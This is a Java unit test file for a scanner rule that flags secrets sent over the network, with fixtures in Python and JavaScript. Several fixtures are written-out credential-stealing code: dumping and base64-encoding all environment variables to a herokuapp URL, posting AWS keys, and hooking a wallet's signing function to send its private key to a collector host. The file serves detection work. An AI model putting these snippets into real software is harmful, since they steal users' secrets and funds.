package dev.portcullis.inspect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.inspect.FileKind;
import dev.portcullis.inspect.Finding;
import dev.portcullis.inspect.Severity;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Secrets reaching the network through names, loops and parameters; and what is use, not theft. */
class SecretFlowTest {

    private static List<Finding> check(String path, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        FileKind kind = FileKind.classify(path, bytes, Math.min(bytes.length, 512));
        return new SecretFlow().check(new SourceFile(path, kind, text, false, bytes.length, 200));
    }

    @Test
    void theWholeEnvironmentThroughAVariableIntoAUrl() {
        List<Finding> findings = check("ctxlite/__init__.py", """
        import os, base64, requests
        def report():
            everything = dict(os.environ)
            blob = ""
            for key, value in everything.items():
                blob += key + "=" + value + ";"
            encoded = base64.b64encode(blob.encode()).decode()
            requests.get("https://anti-theft-web.herokuapp.com/hacked/" + encoded)
        """);
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.line()).isEqualTo(8);
            assertThat(f.message()).contains("encoded");
        });
    }

    @Test
    void aKeyPassedToAHelperThatFetches() {
        List<Finding> findings = check("lib/index.js", """
        const addToQueue = (k) => {
          fetch("https://sol-rpc.example/x", {method: "POST", headers: {"x-amz-cf-id": k}});
        };
        function fromSecretKey(secretKey) {
          const keypair = nacl.sign.keyPair.fromSecretKey(secretKey);
          addToQueue(keypair.secretKey);
          return new Keypair(keypair);
        }
        """);
        assertThat(findings).singleElement().satisfies(f -> assertThat(f.line()).isEqualTo(2));
    }

    @Test
    void cloudCredentialsReadThroughTheSdk() {
        assertThat(check("s3sync/telemetry.py", """
        import boto3, json, urllib.request
        def ping():
            creds = boto3.Session().get_credentials().get_frozen_credentials()
            body = json.dumps({"a": creds.access_key, "s": creds.secret_key}).encode()
            urllib.request.urlopen(urllib.request.Request("https://telemetry.example", data=body))
        """))
                .singleElement()
                .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }

    @Test
    void usingACredentialOrPickingConfigurationIsNotTheft() {
        // a GitHub client sends the user's token where it belongs
        assertThat(check("gh/client.py", """
        import requests
        from pathlib import Path
        token = Path("~/.config/gh/hosts.yml").expanduser().read_text()
        requests.get("https://api.github.com/user", headers={"Authorization": "token " + token})
        """)).isEmpty();
        // Jupyter's gateway client passes the KERNEL_ variables it was asked to
        assertThat(check("notebook/gateway/managers.py", """
        import os
        async def gateway_request(endpoint, **kwargs):
            return await client.fetch(endpoint, **kwargs)
        async def start_kernel(self):
            kernel_env = {k: v for (k, v) in dict(os.environ).items() if k.startswith('KERNEL_')}
            json_body = json_encode({'env': kernel_env})
            return await gateway_request(self.kernels_endpoint, method='POST', body=json_body)
        """)).isEmpty();
        // a Redis client sends the password its credential provider gives to the Redis server
        assertThat(check("redis/connection.py", """
        class Connection:
            def send_command(self, *args, **kwargs):
                self._sock.sendall(self.pack(*args))
            def on_connect(self):
                auth_args = self.credential_provider.get_credentials()
                self.send_command("AUTH", *auth_args, check_health=False)
        """)).isEmpty();
        // a wallet library's messages name the key: a string, not the key
        assertThat(check("wallet/dist/index.js", """
        function checkWords(words) {
          assertArgument(words.length >= 12, "invalid mnemonic length", "mnemonic", "[ REDACTED ]");
        }
        async function send(req) { return fetch(req.url, {body: req.body}); }
        send(checkWords("x"));
        """)).isEmpty();
    }

    @Test
    void aHelperCalledEverywhereDoesNotSpreadTheSecret() {
        StringBuilder js = new StringBuilder("""
        function assert(check, message, info) { if (!check) { report(info); } }
        function report(info) { fetch("https://errors.example/log", {body: info}); }
        const mnemonic = loadMnemonic();
        assert(mnemonic.length > 0, "bad", mnemonic);
        """);
        for (int i = 0; i < 30; i++) {
            js.append("assert(x").append(i).append(" > 0, \"bad\", x").append(i).append(");\n");
        }
        assertThat(check("lib/util.js", js.toString())).isEmpty();
    }

    @Test
    void aPatchedSigningFunctionInAFileWithKeysAndTheNetwork() {
        assertThat(check("wallet/patch.js", """
        const original = Wallet.prototype.signTransaction;
        Wallet.prototype.signTransaction = async function (tx) {
          fetch("https://collector.example/k", {method: "POST", body: this.privateKey});
          return original.call(this, tx);
        };
        """))
                .isNotEmpty()
                .allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH));
    }
}
